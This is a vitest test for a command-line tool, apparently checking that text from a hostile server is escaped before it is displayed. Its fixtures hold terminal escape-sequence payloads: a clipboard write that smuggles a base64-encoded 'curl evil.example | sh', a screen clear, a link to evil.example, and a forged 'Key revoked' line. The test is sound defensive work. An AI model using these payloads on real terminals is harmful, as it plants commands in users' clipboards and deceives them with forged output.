// tier: process
import { afterAll, beforeAll, expect, it } from 'vitest';
import { SVC_BIN, tempConfigDir } from '../helpers/cli.js';
import { startSpecServer, records, type SpecServer } from '../helpers/spec-server.js';
import { Terminal } from '../helpers/terminal.js';

// docs/contract.md §C3: text from a server reaches a person sanitised. A hostile
// server's names, workspace and error texts carry escape sequences; on a
// real terminal none of them acts.

const HOSTILE = [
  `clip\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`,
  'wipe\x1b[2J\x1b[H',
  'link\x1b]8;;https://evil.example\x07click\x1b]8;;\x07',
  'ok\n✓ Key revoked.',
  'csi\u009b31mred',
];

const config = tempConfigDir();
let server: SpecServer;
beforeAll(async () => {
  server = await startSpecServer({
    record: records.full,
    getOne: true,
    workspace: { id: 'ws_1', name: 'Team\x1b[2J\x1b]52;c;aGk=\x07', plan: 'pro\x1b[5m', requestsPerMinute: 1000 },
  });
  for (const name of HOSTILE) server.addKey(name);
  server.rules.push({
    method: 'DELETE',
    times: 1,
    work: false,
    then: { status: 400, body: JSON.stringify({ error: 'boom\x1b[2J\x1b]52;c;aGk=\x07\n✓ Revoked everything.' }) },
  });
});
afterAll(async () => {
  await server.close();
  config.remove();
});

it('names, workspace and error texts cannot clear the screen, write the clipboard or forge a line', async () => {
  const env = { SVC_BASE_URL: server.url, SVC_API_KEY: server.apiKey, SVC_CONFIG_DIR: config.dir };
  const victim = [...server.keys.values()].find((k) => k.name.startsWith('clip'))!.id;
  const script = `echo BEFORE; node '${SVC_BIN}' keys list; node '${SVC_BIN}' status; node '${SVC_BIN}' keys revoke ${victim} --yes; echo AFTER`;
  const term = await Terminal.start(['sh', '-c', script], env, { columns: 200, rows: 50 }, { clipboard: true });
  try {
    const screen = await term.waitFor('AFTER');
    expect(screen).toContain('BEFORE');
    expect(await term.buffers()).toBe('');
    expect(screen).toContain('clip\\x1b]52;c;');
    expect(screen).toContain('wipe\\x1b[2J\\x1b[H');
    // The table cuts names at 24 characters; what shows is escaped.
    expect(screen).toContain('link\\x1b]8;;https://evi…');
    expect(screen).toContain('ok\\n✓ Key revoked.');
    expect(screen).toContain('csi\\x9b31mred');
    expect(screen).toContain('Team\\x1b[2J\\x1b]52;c;aGk=\\x07');
    expect(screen).toContain('boom\\x1b[2J\\x1b]52;c;aGk=\\x07\\n✓ Revoked everything.');
    expect(screen.split('\n').some((line) => /^\s*✓ (Key revoked|Revoked everything)/.test(line))).toBe(false);
  } finally {
    await term.close();
  }
});
